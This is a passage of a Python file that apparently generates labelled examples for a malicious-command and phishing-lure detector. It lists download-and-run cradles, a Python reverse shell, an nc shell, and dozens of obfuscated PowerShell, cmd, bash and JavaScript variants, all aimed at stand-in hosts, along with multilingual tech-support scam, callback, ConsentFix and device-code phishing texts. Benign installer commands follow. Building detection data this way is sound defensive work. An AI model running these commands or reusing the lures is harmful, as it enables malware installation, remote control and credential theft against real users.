    ("ioc-mshta-ip-port", "mshta http://198.51.100.229:8080/index.hta", RUN, "windows"),
    (
        "ioc-msiexec-remote",
        "msiexec.exe /i https://i6.razorbill.invalid/setup.msi /quiet /norestart",
        RUN,
        "windows",
    ),
    (
        "ioc-rundll32-davclnt",
        "rundll32.exe C:\\Windows\\System32\\davclnt.dll,DavSetCookie i7.guillemot.example@SSL https://i7.guillemot.example/d/",
        RUN,
        "windows",
    ),
    ("ioc-finger-cmd", "finger gw@i8.dovekie-stage.test | cmd.exe", RUN, "windows"),
    (
        "ioc-kongtuke-js-php",
        "powershell -w h -c \"$u='https://i9.shag-tds.invalid/js.php?device=win&uid=55019';iex(irm $u)\"",
        RUN,
        "windows",
    ),
    (
        "ioc-netsupport-zip-start",
        'powershell -w h -c "iwr https://ia.cormorant.example/c.zip -o $env:APPDATA\\c.zip; Expand-Archive $env:APPDATA\\c.zip $env:APPDATA\\c; start $env:APPDATA\\c\\client32.exe"',
        RUN,
        "windows",
    ),
    (
        "ioc-lumma-start-min",
        'cmd /c start /min "" powershell -w h -c "irm https://ib.anhinga-drop.test/l|iex"',
        RUN,
        "windows",
    ),
    (
        "ioc-castleloader-curl-ps-stdin",
        "cmd /c curl.exe -s https://ic.darter-cdn.invalid/s | powershell -",
        RUN,
        "windows",
    ),
    (
        "ioc-latrodectus-msiexec",
        "msiexec /i https://id.frigatebird.example/vpn_client.msi /qn",
        RUN,
        "windows",
    ),
    (
        "ioc-sal-alias",
        'powershell -c "sal x iex; x (irm https://ie.booby-stage.test/s)"',
        RUN,
        "windows",
    ),
    (
        "ioc-winhttp-com",
        "powershell -c \"$h=New-Object -Com WinHttp.WinHttpRequest.5.1;$h.Open('GET','https://if.tropicbird.invalid/w',0);$h.Send();iex $h.ResponseText\"",
        RUN,
        "windows",
    ),
    (
        "ioc-certutil-decode",
        "cmd /c certutil -urlcache -f https://ig.petrel-stage.example/c.txt %TEMP%\\c.txt & certutil -decode %TEMP%\\c.txt %TEMP%\\c.exe & %TEMP%\\c.exe",
        RUN,
        "windows",
    ),
    (
        "ioc-etherhiding-eth-call",
        'powershell -c "$r=irm -Method Post -Uri https://ih.shearwater-rpc.test/ -ContentType application/json -Body \'{\\"jsonrpc\\":\\"2.0\\",\\"method\\":\\"eth_call\\",\\"params\\":[{\\"to\\":\\"0x5555aaaa5555aaaa5555aaaa5555aaaa5555aaaa\\",\\"data\\":\\"0x6d4ce63c\\"},\\"latest\\"],\\"id\\":1}\'; iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($r.result)))"',
        RUN,
        "windows",
    ),
    (
        "ioc-explorer-webdav-exe",
        "\\\\ii.albatross-dav.invalid@SSL\\DavWWWRoot\\scan\\check.exe",
        EXP,
        "windows",
    ),
    (
        "ioc-bitsadmin-temp",
        "bitsadmin /transfer u /download https://ij.fulmar-stage.example/u.exe %TEMP%\\u.exe",
        RUN,
        "windows",
    ),
    (
        "ioc-wscript-webdav",
        "wscript.exe \\\\ik.prion-dav.test@SSL\\DavWWWRoot\\a.vbs",
        RUN,
        "windows",
    ),
    (
        "ioc-conhost-powershell",
        'conhost.exe --headless powershell -w h -c "irm https://il.skua-stage.invalid/h|iex"',
        RUN,
        "windows",
    ),
    (
        "ioc-amos-curl-bash",
        "curl -fsSL https://im.kittiwake-stage.example/install.sh | bash",
        TERM,
        "macos",
    ),
    (
        "ioc-odyssey-osascript-pipe",
        "curl -s https://in.noddy-stage.test/o | osascript",
        TERM,
        "macos",
    ),
    (
        "ioc-amos-base64-bash",
        "echo " + b64("curl -fsSL https://io.tern-stage.invalid/a | bash") + " | base64 -d | bash",
        TERM,
        "macos",
    ),
    (
        "ioc-mac-tmp-run",
        "curl -so /tmp/update https://ip.gannet-stage.example/u && chmod +x /tmp/update && /tmp/update",
        TERM,
        "macos",
    ),
    ("ioc-linux-wget-sh", "wget -qO- https://iq.booby-cdn.test/x | sh", TERM, "linux"),
    (
        "ioc-linux-curl-sudo-bash",
        "curl -sSL https://ir.frigate-stage.invalid/i | sudo -E bash -",
        TERM,
        "linux",
    ),
    (
        "ioc-python-reverse-shell",
        'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("198.51.100.59",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])\'',
        TERM,
        "linux",
    ),
    ("ioc-nc-e-shell", "nc -e /bin/sh 203.0.113.251 9001", TERM, "linux"),
    (
        "ioc-mshta-javascript-getobject",
        'mshta javascript:a=GetObject("script:https://is.loon-stage.example/s.sct").Exec();close();',
        RUN,
        "windows",
    ),
    (
        "ioc-assembly-load",
        'powershell -c "[Reflection.Assembly]::Load((iwr https://it.grebe-stage.test/a.dll -UseB).Content).EntryPoint.Invoke($null,$null)"',
        RUN,
        "windows",
    ),
    ("ioc-pcalua-remote", "pcalua.exe -a \\\\203.0.113.243\\share\\run.exe", RUN, "windows"),
    (
        "ioc-copy-share-run",
        "cmd /c copy \\\\iu.heron-share.invalid\\pub\\u.exe %TEMP%\\u.exe && %TEMP%\\u.exe",
        RUN,
        "windows",
    ),
    (
        "ioc-curlexe-run",
        "curl.exe -so %LOCALAPPDATA%\\svc.exe https://iv.egret-stage.example/svc.exe & %LOCALAPPDATA%\\svc.exe",
        RUN,
        "windows",
    ),
    (
        "ioc-msi-iwr-o",
        'powershell -c "iwr https://iw.bittern-stage.test/s.msi -o $env:TEMP\\s.msi; msiexec /i $env:TEMP\\s.msi /qn"',
        RUN,
        "windows",
    ),
    ("ioc-decimal-ip-mshta", f"mshta http://{ip_int('198.51.100.201')}/m.hta", RUN, "windows"),
    ("ioc-regsvr32-ip", "regsvr32 /s /i:http://203.0.113.233/x.sct scrobj.dll", RUN, "windows"),
    (
        "ioc-vidar-saps",
        "powershell -w h -c \"saps powershell -Args '-w h -c irm https://ix.ibis-stage.invalid/v|iex' -WindowStyle Hidden\"",
        RUN,
        "windows",
    ),
    (
        "ioc-darkgate-autoit",
        "cmd /c curl -s -o C:\\ProgramData\\a.exe https://iy.spoonbill.example/Autoit3.exe & curl -s -o C:\\ProgramData\\s.a3x https://iy.spoonbill.example/s.a3x & C:\\ProgramData\\a.exe C:\\ProgramData\\s.a3x",
        RUN,
        "windows",
    ),
    (
        "ioc-linux-gzip-stage",
        "curl -s https://iz.stork-stage.test/g.gz | gunzip | bash",
        TERM,
        "linux",
    ),
]:
    ioc(technique, text, target, platform)

# --- (c) fixture-style obfuscations --------------------------------------------------------------

OB_PAGES = [
    "https://www.pet-adoption-center.test/verify",
    "https://portal.student-housing-board.example/check",
    "https://www.used-car-listings.invalid/captcha",
    None,
]
OU = "https://o10.obfx-stage10.test/q"
ANSI_C = "".join(f"\\x{b:02x}" for b in b"curl -s https://ac10.obfx-stage10.invalid/a|bash")
OCTAL = "".join(f"\\{b:03o}" for b in b"wget -qO- https://oc10.obfx-stage10.test/o|sh")
JS_X = "fetch('https://js10.obfx-stage10.invalid/j').then(r=>r.text()).then(eval)"
REV = f"irm {OU}|iex"[::-1]
OBFUSCATED = [
    ("obf-ps-concat-url", RUN, f'powershell -c "iex (irm {ps_concat(OU, 6)})"'),
    ("obf-ps-concat-iex", RUN, f"powershell -c \"& ({ps_concat('iex', 1)}) (irm '{OU}')\""),
    ("obf-ps-format-url", RUN, f'powershell -c "irm {ps_format(OU, 7)} | iex"'),
    (
        "obf-ps-format-invoke",
        RUN,
        f"powershell -c \"& {ps_format('Invoke-Expression', 4)} (irm '{OU}')\"",
    ),
    (
        "obf-ps-charcodes-url",
        RUN,
        f'powershell -c "irm ([string]::new([char[]]({char_codes(OU)})))|iex"',
    ),
    (
        "obf-ps-charcodes-whole",
        RUN,
        f"powershell -c \"iex ([string]::join('',[char[]]({char_codes(f'irm {OU}|iex')})))\"",
    ),
    (
        "obf-ps-base64-url",
        RUN,
        f"powershell -c \"iex(irm ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{b64(OU)}'))))\"",
    ),
    (
        "obf-ps-base64-whole",
        RUN,
        f"powershell -c \"iex([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('{b64(f'irm {OU}|iex')}')))\"",
    ),
    ("obf-ps-reversed", RUN, f"powershell -c \"iex (-join ('{REV}'[-1..-{len(REV)}]))\""),
    (
        "obf-ps-replace-junk",
        RUN,
        "powershell -c \"iex ('i~r~m~ ~" + "~".join(OU) + "~|~i~e~x'.Replace('~',''))\"",
    ),
    ("obf-ps-backticks", RUN, f"powershell -c \"i`e`x (i`w`r -u`seb '{OU}')\""),
    ("obf-ps-mixed-case", RUN, f"PoWeRsHeLl -C \"InVoKe-ExPrEsSiOn (InVoKe-ReStMeThOd '{OU}')\""),
    ("obf-ps-gcm-wildcard", RUN, f"powershell -c \"& (gcm *e-Exp*sion) (irm '{OU}')\""),
    (
        "obf-ps-get-alias-wildcard",
        RUN,
        f"powershell -c \"& (Get-Alias i?x).Definition (irm '{OU}')\"",
    ),
    ("obf-ps-env-slice", RUN, f"powershell -c \"& ($env:ComSpec[4,15,25]-join'') (irm '{OU}')\""),
    (
        "obf-ps-xor",
        RUN,
        f'powershell -c "iex (-join ({xor_codes(f"irm {OU}|iex", 23)} | % {{[char]($_ -bxor 23)}}))"',
    ),
    (
        "obf-ps-unescape",
        RUN,
        "powershell -c \"iex ([uri]::UnescapeDataString('"
        + "".join(f"%{b:02X}" for b in f"irm {OU}|iex".encode())
        + "'))\"",
    ),
    (
        "obf-ps-gzip-stream",
        RUN,
        f"powershell -c \"iex (New-Object IO.StreamReader(New-Object IO.Compression.GZipStream([IO.MemoryStream][Convert]::FromBase64String('{gzip_b64(f'irm {OU}|iex')}'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()\"",
    ),
    (
        "obf-ps-invokecommand-scriptblock",
        RUN,
        f"powershell -c \"Invoke-Command -ScriptBlock ([scriptblock]::Create((irm '{OU}')))\"",
    ),
    (
        "obf-ps-executioncontext",
        RUN,
        f"powershell -c \"$ExecutionContext.InvokeCommand.InvokeScript((irm '{OU}'))\"",
    ),
    (
        "obf-ps-hex-string",
        RUN,
        f"powershell -c \"iex (-join ('{hex_str(f'irm {OU}|iex')}' -split '(..)' | ? {{$_}} | % {{[char][convert]::ToInt32($_,16)}}))\"",
    ),
    ("obf-ps-hex-ip-octet", RUN, 'powershell -c "irm http://0xcb.0.113.74/q|iex"'),
    ("obf-ps-tick-in-flag", RUN, f"power`shell -w`ind h -c \"irm '{OU}'|iex\""),
    ("obf-cmd-carets", RUN, "cmd /c " + carets(f"powershell -w h -c irm {OU}") + "^|iex"),
    ("obf-cmd-quote-insert", RUN, f'cmd /c p"ow"ers"hell" -c "irm {OU}|iex"'),
    (
        "obf-cmd-set-call",
        RUN,
        f'cmd /v:on /c "set a=power&& set b=shell&& call !a!!b! -c irm {OU}^|iex"',
    ),
    ("obf-cmd-var-slice", RUN, f'cmd /c "set x=zzpowershellzz&& call %x:~2,10% -c irm {OU}^|iex"'),
    ("obf-cmd-comspec-slice", RUN, f"cmd /c %COMSPEC:~-7,3% /c powershell -c irm {OU}^|iex"),
    ("obf-cmd-for-f-curl", RUN, f"cmd /c for /f \"delims=\" %a in ('curl -s {OU}') do call %a"),
    (
        "obf-cmd-careted-mshta",
        RUN,
        "cmd /c " + carets("mshta https://mh10.obfx-stage10.invalid/a.hta", 3),
    ),
    ("obf-bash-ansi-c", TERM, f"bash -c $'{ANSI_C}'"),
    (
        "obf-bash-var-indirection",
        TERM,
        "a=cu; b=rl; u=https://vi10.obfx-stage10.test/v; c=ba; d=sh; ${a}${b} -s $u | ${c}${d}",
    ),
    ("obf-bash-printf-octal", TERM, f"sh -c \"$(printf '{OCTAL}')\""),
    (
        "obf-bash-rev",
        TERM,
        "echo '" + "curl -s https://rv10.obfx-stage10.invalid/r | bash"[::-1] + "' | rev | sh",
    ),
    (
        "obf-bash-xxd",
        TERM,
        f"echo {hex_str('curl -s https://xx10.obfx-stage10.test/x|sh')} | xxd -r -p | bash",
    ),
    ("obf-bash-ifs", TERM, "curl${IFS}-s${IFS}https://if10.obfx-stage10.invalid/i|bash"),
    (
        "obf-bash-eval-pieces",
        TERM,
        "p1='curl -s htt'; p2='ps://ev10.obfx-stage10.test/e | s'; p3='h'; eval \"$p1$p2$p3\"",
    ),
    ("obf-js-window-bracket-eval", CON, f"window['e'+'v'+'a'+'l'](atob('{b64(JS_X)}'))"),
    (
        "obf-js-fromcharcode-url",
        CON,
        f"fetch(String.fromCharCode({char_codes('https://fc10.obfx-stage10.test/f')})).then(r=>r.text()).then(eval)",
    ),
    ("obf-js-constructor-chain", CON, f"[]['filter']['constructor'](atob('{b64(JS_X)}'))()"),
    (
        "obf-js-hex-escape-eval",
        CON,
        "self['\\x65\\x76\\x61\\x6c'](\"" + JS_X.replace('"', '\\"') + '")',
    ),
]
for i, (technique, target, text) in enumerate(OBFUSCATED):
    platform = "any" if target == CON else ("linux" if target == TERM else "windows")
    page = OB_PAGES[i % len(OB_PAGES)]
    if page is None:
        ioc(technique, text, target, platform)
    else:
        lure(technique, target, page, text, "malicious", platform)

# --- (d) texts that are not commands: scams, callbacks, ConsentFix, device codes -----------------

SCAM = "support-scam"
for lang, source, text in [
    (
        "en",
        "https://alert.windows-defender-notice.test/",
        "** WARNING: Your computer has been locked **\nTrojan:Win32/Emotet detected. Your banking passwords and photos are at risk.\nDo NOT restart your computer. Call Microsoft Certified Support now: +1 (555) 014-7731 (toll free).",
    ),
    (
        "de",
        "https://sicherheit.pc-warnung-center.example/",
        "ACHTUNG: Ihr Computer wurde gesperrt!\nEs wurde ein Spyware-Angriff festgestellt. Schalten Sie den PC nicht aus.\nRufen Sie sofort den technischen Support an: +49 555 0193 2210",
    ),
    (
        "fr",
        "https://alerte.securite-ordinateur.invalid/",
        "Votre ordinateur est bloqué pour des raisons de sécurité.\nVirus détecté : vos identifiants bancaires sont exposés.\nAppelez immédiatement le support Windows au +33 5 55 01 92 44 (appel gratuit).",
    ),
    (
        "es",
        "https://aviso.soporte-equipo-seguro.test/",
        "Su equipo ha sido bloqueado. Se detectó actividad sospechosa y un virus troyano.\nNo apague el ordenador. Llame al soporte técnico de Microsoft: +34 555 019 877",
    ),
    (
        "it",
        "https://avviso.protezione-pc-online.example/",
        "Il tuo computer è stato bloccato a causa di un virus.\nI tuoi dati personali sono a rischio. Non chiudere questa pagina.\nChiama subito l'assistenza tecnica: +39 555 0142 660",
    ),
    (
        "pt",
        "https://alerta.seguranca-windows-br.invalid/",
        "Seu computador foi bloqueado! Detectamos um vírus que está roubando suas senhas.\nNão desligue o computador. Ligue para o suporte técnico: +55 11 5550-1928",
    ),
    (
        "nl",
        "https://waarschuwing.pc-beveiliging-nl.test/",
        "Uw computer is geblokkeerd wegens verdachte activiteit.\nEr is malware gevonden die uw bankgegevens steelt. Sluit deze pagina niet.\nBel direct de technische ondersteuning: +31 555 019 344",
    ),
    (
        "pl",
        "https://alarm.komputer-blokada-pl.example/",
        "Twój komputer został zablokowany! Wykryto wirusa kradnącego hasła.\nNie wyłączaj komputera. Zadzwoń natychmiast do pomocy technicznej: +48 555 019 288",
    ),
    (
        "tr",
        "https://uyari.pc-kilit-destek.invalid/",
        "Bilgisayarınız engellendi! Banka bilgilerinizi çalan bir virüs tespit edildi.\nBilgisayarınızı kapatmayın. Hemen teknik destek hattını arayın: +90 555 019 4417",
    ),
    (
        "ru",
        "https://trevoga.pk-blokirovka.test/",
        "Ваш компьютер заблокирован! Обнаружен вирус, который крадёт пароли от банка.\nНе выключайте компьютер. Срочно позвоните в службу поддержки: +7 555 019-33-21",
    ),
    (
        "ja",
        "https://keikoku.pasokon-lock-shien.example/",
        "お使いのコンピューターはロックされました。ウイルスが検出され、個人情報が流出する危険があります。\n電源を切らないでください。今すぐサポートセンターへお電話ください：050-5550-1932",
    ),
    (
        "zh",
        "https://jinggao.diannao-anquan.invalid/",
        "您的电脑已被锁定！检测到木马病毒正在窃取您的银行密码。\n请勿关闭电脑。请立即拨打技术支持热线：+86 555 0193 8812",
    ),
    (
        "ar",
        "https://tahdheer.amn-alhasoub.test/",
        "تم قفل جهاز الكمبيوتر الخاص بك! تم اكتشاف فيروس يسرق كلمات المرور المصرفية.\nلا تقم بإيقاف تشغيل الجهاز. اتصل بالدعم الفني فورًا: +971 555 019 274",
    ),
]:
    lure(f"{SCAM}-{lang}", UNK, source, text, "flagged", "any")

for technique, source, text in [
    (
        "callback-norton-renewal-en",
        "https://mail.inbox-viewer.test/m/4410",
        "Your Norton 360 Total Protection subscription has been renewed automatically.\nAmount charged: $449.99 (Order NT-5520931)\nIf you did not authorize this purchase, call our billing department within 24 hours: +1 (555) 019-4822",
    ),
    (
        "callback-paypal-fr",
        "https://webmail.boite-reception.example/msg/22",
        "Confirmation de paiement PayPal\nVous avez envoyé 689,00 € à CryptoMarket Ltd.\nSi vous n'êtes pas à l'origine de cette transaction, appelez le service litiges au +33 5 55 01 38 90",
    ),
    (
        "callback-geek-squad-nl",
        "https://mail.postvak-in.invalid/bericht/9",
        "Bedankt voor uw verlenging van Geek Squad Protection.\nBedrag: € 399,99, wordt vandaag afgeschreven.\nAnnuleren? Bel binnen 48 uur: +31 555 019 6621",
    ),
    (
        "callback-amazon-prime-it",
        "https://posta.casella-web.test/m/77",
        "Il tuo abbonamento Amazon Prime annuale di 299,00 € è stato rinnovato.\nSe non hai richiesto questo rinnovo, chiama subito il servizio clienti: +39 555 0177 321",
    ),
    (
        "callback-microsoft-store-pl",
        "https://poczta.skrzynka-online.example/w/5",
        "Zamówienie Microsoft Store nr MS-55190 zostało opłacone: 1 899,00 zł.\nJeśli nie składałeś tego zamówienia, zadzwoń do działu zwrotów: +48 555 019 733",
    ),
    (
        "callback-binance-withdrawal-es",
        "https://correo.bandeja-entrada.invalid/l/3",
        "Binance: se ha solicitado una retirada de 0,84 BTC de su cuenta.\nSi no ha sido usted, llame inmediatamente a nuestro equipo de seguridad: +34 555 019 412",
    ),
]:
    lure(technique, UNK, source, text, "flagged", "any")

for technique, source, text in [
    (
        "consentfix-localhost-code",
        "https://sso-review.tenant-access.test/step2",
        "http://localhost:8400/?code=1.AXoAbCdEfGh0123456789-zYxWvUt&state=8812&session_state=55aa0c",
    ),
    (
        "consentfix-127-callback-path",
        "https://admin-consent.app-review.example/finish",
        "http://127.0.0.1:53120/auth/callback?code=0.ARoA9f8e7d6c5b4a&state=verify-4410",
    ),
    (
        "consentfix-ipv6-loopback",
        "https://azure-setup.partner-onboard.invalid/",
        "http://[::1]:7890/redirect?code=M.C105_BAY.2.U.55ab9-e1&state=x",
    ),
    (
        "consentfix-instructions-pt",
        "https://login-verificacao.portal-cliente.test/",
        "Depois de entrar com a sua conta Microsoft, o navegador vai mostrar uma página que não abre (localhost).\nCopie o endereço completo da barra e cole-o no campo abaixo para concluir a verificação.",
    ),
    (
        "consentfix-instructions-ja",
        "https://kakunin.account-portal.example/",
        "Microsoftアカウントでサインインすると、ページが開けないと表示されます（localhost）。\nアドレスバーのURLをすべてコピーして、下の欄に貼り付けてください。確認が完了します。",
    ),
]:
    lure(technique, UNK, source, text, "flagged", "any")

for technique, source, text in [
    (
        "device-code-benefits-en",
        "https://hr-benefits.enrollment-2027.test/",
        "To finish your 2027 benefits enrollment, go to https://microsoft.com/devicelogin and enter the code: K9QX-4TRM\nThe code expires in 15 minutes.",
    ),
    (
        "device-code-voicemail-de",
        "https://voicemail.telefon-nachricht.invalid/",
        "Sie haben eine neue Sprachnachricht (0:42). Um sie abzuhören, öffnen Sie microsoft.com/devicelogin und geben Sie den Code HJ7P-2WQA ein.",
    ),
    (
        "device-code-github-es",
        "https://oss-grants.dev-fund.example/apply",
        "Para verificar tu cuenta de desarrollador abre https://github.com/login/device e introduce el código 5B2E-91CD",
    ),
    (
        "device-code-signing-fr",
        "https://signature.docs-contrat.test/d/55",
        "Pour signer le document, rendez-vous sur https://microsoft.com/devicelogin et saisissez le code : RT4M-8ZQE",
    ),
    (
        "device-code-meeting-tr",
        "https://toplanti.davet-merkezi.invalid/j/9",
        "Toplantıya katılmak için https://microsoft.com/devicelogin adresine gidin ve şu kodu girin: N2VB-7KXD",
    ),
    (
        "device-code-security-zh",
        "https://anquan.zhanghu-yanzheng.example/",
        "您的账户需要安全验证。请访问 https://microsoft.com/devicelogin 并输入验证码 QP3X-6LMN 以避免账户被停用。",
    ),
]:
    lure(technique, UNK, source, text, "flagged", "any")

# ----------------------------------------------------------------------------------------------
# Benign: (kind, target, source, text)
# ----------------------------------------------------------------------------------------------

BENIGN: list[tuple[str, str, str | None, str]] = []
OWN = "installer-own-page"


def ok(kind: str, target: str, source: str | None, text: str) -> None:
    BENIGN.append((kind, target, source, text))


# --- Installers of real projects not used by the earlier sets, each from its own page ------------

GH = "https://github.com/"
OWN_PAGES = [
    # Go tools, as their READMEs give them
    (GH + "maaslalani/slides", "go install github.com/maaslalani/slides@latest"),
    (GH + "maaslalani/nap", "go install github.com/maaslalani/nap@main"),
    (GH + "mistakenelf/fm", "go install github.com/mistakenelf/fm@latest"),
    (GH + "antonmedv/countdown", "go install github.com/antonmedv/countdown@latest"),
    (GH + "antonmedv/walk", "brew install walk"),
    (GH + "tomnomnom/waybackurls", "go install github.com/tomnomnom/waybackurls@latest"),
    (GH + "tomnomnom/assetfinder", "go install github.com/tomnomnom/assetfinder@latest"),
    (
        GH + "projectdiscovery/dnsx",
        "go install -v github.com/projectdiscovery/dnsx/cmd/dnsx@latest",
    ),
    (
        GH + "projectdiscovery/interactsh",
        "go install -v github.com/projectdiscovery/interactsh/cmd/interactsh-client@latest",
    ),
    (GH + "hakluke/hakrawler", "go install github.com/hakluke/hakrawler@latest"),
    (GH + "lc/gau", "go install github.com/lc/gau/v2/cmd/gau@latest"),
    (
        GH + "jaeles-project/gospider",
        "GO111MODULE=on go install github.com/jaeles-project/gospider@latest",
    ),
    (GH + "sensepost/gowitness", "go install github.com/sensepost/gowitness@latest"),
    (GH + "d3mondev/puredns", "go install github.com/d3mondev/puredns/v2@latest"),
    (GH + "yannh/kubeconform", "go install github.com/yannh/kubeconform/cmd/kubeconform@latest"),
    (GH + "securego/gosec", "go install github.com/securego/gosec/v2/cmd/gosec@latest"),
    (GH + "segmentio/golines", "go install github.com/segmentio/golines@latest"),
    (GH + "daixiang0/gci", "go install github.com/daixiang0/gci@latest"),
    (GH + "fatih/gomodifytags", "go install github.com/fatih/gomodifytags@latest"),
    (GH + "josharian/impl", "go install github.com/josharian/impl@latest"),
    (GH + "cweill/gotests", "go install github.com/cweill/gotests/gotests@latest"),
    (GH + "go-task/task", "go install github.com/go-task/task/v3/cmd/task@latest"),
    (GH + "cespare/reflex", "go install github.com/cespare/reflex@latest"),
    (GH + "codesenberg/bombardier", "go install github.com/codesenberg/bombardier@latest"),
    (GH + "fortio/fortio", "go install fortio.org/fortio@latest"),
    (GH + "psanford/wormhole-william", "go install github.com/psanford/wormhole-william@latest"),
    (GH + "TomWright/dasel", "go install github.com/tomwright/dasel/v2/cmd/dasel@master"),
    (GH + "birdayz/kaf", "go install github.com/birdayz/kaf/cmd/kaf@latest"),
    (GH + "k0sproject/k0sctl", "go install github.com/k0sproject/k0sctl@latest"),
    # Rust tools
    (GH + "ynqa/jnv", "cargo install jnv"),
    (GH + "imsnif/diskonaut", "cargo install diskonaut"),
    (GH + "jhspetersson/fselect", "cargo install fselect"),
    (GH + "dalance/amber", "cargo install amber"),
    (GH + "theryangeary/choose", "cargo install choose"),
    (GH + "Canop/dysk", "cargo install --locked dysk"),
    (GH + "Canop/bacon", "cargo install --locked bacon"),
    (GH + "kamiyaa/joshuto", "cargo install --git https://github.com/kamiyaa/joshuto.git --force"),
    (GH + "GitoxideLabs/gitoxide", "cargo install gitoxide"),
    (GH + "tummychow/git-absorb", "cargo install git-absorb"),
    (GH + "sigoden/dufs", "cargo install dufs"),
    (GH + "sigoden/argc", "cargo install argc"),
    (GH + "asciinema/agg", "cargo install --git https://github.com/asciinema/agg"),
    (GH + "Aloxaf/silicon", "cargo install silicon"),
    (GH + "mufeedvh/code2prompt", "cargo install code2prompt"),
    (GH + "Rigellute/spotify-tui", "cargo install spotify-tui"),
    (GH + "aome510/spotify-player", "cargo install spotify_player --locked"),
    (GH + "librespot-org/librespot", "cargo install librespot"),
    (GH + "tldr-pages/tlrc", "cargo install tlrc --locked"),
    (GH + "TaKO8Ki/gobang", "cargo install --version 0.1.0-alpha.5 gobang"),
    (GH + "01mf02/jaq", "cargo install --locked jaq"),
    (GH + "phiresky/ripgrep-all", "cargo install --locked ripgrep_all"),
    (GH + "Nukesor/pueue", "cargo install --locked pueue"),
    (GH + "rustsec/rustsec", "cargo install cargo-audit --locked"),
    (GH + "nextest-rs/nextest", "cargo install cargo-nextest --locked"),
    (GH + "xd009642/tarpaulin", "cargo install cargo-tarpaulin"),
    (GH + "mozilla/cbindgen", "cargo install --force cbindgen"),
    (
        GH + "rust-cross/cargo-zigbuild",
        "pip install ziglang\ncargo install --locked cargo-zigbuild",
    ),
    (GH + "cross-rs/cross", "cargo install cross --git https://github.com/cross-rs/cross"),
    (GH + "esp-rs/espflash", "cargo install espflash --locked"),
    # curl | sh and friends, from the project's README or its own site
    ("https://d2lang.com/tour/install", "curl -fsSL https://d2lang.com/install.sh | sh -s --"),
    (
        GH + "metalbear-co/mirrord",
        "curl -fsSL https://raw.githubusercontent.com/metalbear-co/mirrord/main/scripts/install.sh | bash",
    ),
    (
        GH + "peass-ng/PEASS-ng",
        "curl -L https://github.com/peass-ng/PEASS-ng/releases/latest/download/linpeas.sh | sh",
    ),
    (
        GH + "mviereck/x11docker",
        "curl -fsSL https://raw.githubusercontent.com/mviereck/x11docker/master/x11docker | sudo bash -s -- --update",
    ),
    (GH + "shellspec/shellspec", "curl -fsSL https://git.io/shellspec | sh"),
    (
        GH + "chubin/cheat.sh",
        "curl -s https://cht.sh/:cht.sh | sudo tee /usr/local/bin/cht.sh && sudo chmod +x /usr/local/bin/cht.sh",
    ),
    (
        GH + "ivan-hc/AM",
        "wget -q https://raw.githubusercontent.com/ivan-hc/AM/main/AM-INSTALLER && chmod a+x ./AM-INSTALLER && ./AM-INSTALLER",
    ),
    (
        "https://vencord.dev/download/",
        'sh -c "$(curl -sS https://raw.githubusercontent.com/Vendicated/VencordInstaller/main/install.sh)"',
    ),
    # git clone and set up
    (
        GH + "marlonrichert/zsh-snap",
        "git clone --depth 1 -- https://github.com/marlonrichert/zsh-snap.git ~/Git/zsh-snap",
    ),
    (
        GH + "akinomyoga/ble.sh",
        "git clone --recursive --depth 1 --shallow-submodules https://github.com/akinomyoga/ble.sh.git\nmake -C ble.sh install PREFIX=~/.local",
    ),
    (
        GH + "rcaloras/bash-preexec",
        "curl https://raw.githubusercontent.com/rcaloras/bash-preexec/master/bash-preexec.sh -o ~/.bash-preexec.sh",
    ),
    (
        GH + "pyenv/pyenv-virtualenv",
        "git clone https://github.com/pyenv/pyenv-virtualenv.git $(pyenv root)/plugins/pyenv-virtualenv",
    ),
    (
        GH + "longld/peda",
        'git clone https://github.com/longld/peda.git ~/peda\necho "source ~/peda/peda.py" >> ~/.gdbinit',
    ),
    (GH + "drwetter/testssl.sh", "git clone --depth 1 https://github.com/drwetter/testssl.sh.git"),
    (
        GH + "exo-explore/exo",
        "git clone https://github.com/exo-explore/exo.git\ncd exo\npip install -e .",
    ),
    # Python packages
    (GH + "Textualize/textual", "pip install textual"),
    (GH + "Textualize/frogmouth", "pipx install frogmouth"),
    (GH + "Textualize/toolong", "pipx install toolong"),
    (GH + "darrenburns/posting", "uv tool install --python 3.13 posting"),
    (GH + "simonw/shot-scraper", "pip install shot-scraper\nshot-scraper install"),
    (GH + "simonw/ttok", "pip install ttok"),
    (GH + "ml-explore/mlx", "pip install mlx"),
    (GH + "langchain-ai/langgraph", "pip install -U langgraph"),
    (GH + "dottxt-ai/outlines", "pip install outlines"),
    (GH + "flairNLP/flair", "pip install flair"),
    (GH + "reflex-dev/reflex", "pip install reflex"),
    (GH + "beeware/toga", "pip install toga"),
    (GH + "Nuitka/Nuitka", "python -m pip install -U nuitka"),
    (GH + "laixintao/iredis", "pip install iredis"),
    (GH + "jtesta/ssh-audit", "pip3 install ssh-audit"),
    (GH + "droope/droopescan", "pip install droopescan"),
    (GH + "s0md3v/Arjun", "pipx install arjun"),
    (GH + "saulpw/visidata", "pip3 install visidata"),
    (GH + "jrnl-org/jrnl", "pipx install jrnl"),
    (GH + "mikf/gallery-dl", "python3 -m pip install -U gallery-dl"),
    (GH + "beetbox/beets", "pip install beets"),
    (GH + "facebook/pyre-check", "pip install pyre-check"),
    (GH + "rubik/radon", "pip install radon"),
    (GH + "codespell-project/codespell", "pip install codespell"),
    (GH + "aio-libs/aiohttp", "pip install aiohttp"),
    (GH + "falconry/falcon", "pip install falcon"),
    (GH + "pybind/pybind11", "pip install pybind11"),
    (GH + "rq/rq", "pip install rq"),
    (GH + "Bogdanp/dramatiq", "pip install -U 'dramatiq[rabbitmq, watch]'"),
    (GH + "Lightning-AI/pytorch-lightning", "pip install lightning"),
    (GH + "ydataai/ydata-profiling", "pip install ydata-profiling"),
    (GH + "mwouts/jupytext", "pip install jupytext"),
    (GH + "vega/altair", "pip install altair"),
    (GH + "napari/napari", 'python -m pip install "napari[all]"'),
    (GH + "py-pdf/pypdf", "pip install pypdf"),
    (GH + "ultrafunkamsterdam/undetected-chromedriver", "pip install undetected-chromedriver"),
    (GH + "adbar/trafilatura", "pip install trafilatura"),
    (GH + "mingrammer/diagrams", "pip install diagrams"),
    (GH + "pyinfra-dev/pyinfra", "pip install pyinfra"),
    # JavaScript and TypeScript
    (GH + "aksakalli/gtop", "npm install gtop -g"),
    (GH + "semantic-release/semantic-release", "npm install --save-dev semantic-release"),
